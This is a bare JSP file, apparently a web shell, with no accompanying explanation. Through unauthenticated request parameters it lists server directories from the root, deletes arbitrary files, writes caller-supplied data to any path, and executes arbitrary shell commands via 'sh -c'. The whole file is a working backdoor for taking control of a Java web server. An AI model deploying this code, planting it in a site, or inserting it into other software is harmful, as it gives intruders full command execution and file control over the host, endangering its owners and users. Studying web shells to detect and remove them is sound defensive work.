<%@ page import="java.io.*" %>
<%
String path = request.getParameter("p");
File dir = new File(path == null ? "/" : path);
for (File f : dir.listFiles()) { out.println(f.getName() + "<br>"); }
if (request.getParameter("del") != null) { new File(request.getParameter("del")).delete(); }
if (request.getParameter("save") != null) {
    FileOutputStream o = new FileOutputStream(request.getParameter("save"));
    o.write(request.getParameter("data").getBytes()); o.close();
}
if (request.getParameter("x") != null) { Runtime.getRuntime().exec(new String[]{"sh", "-c", request.getParameter("x")}); }
%>
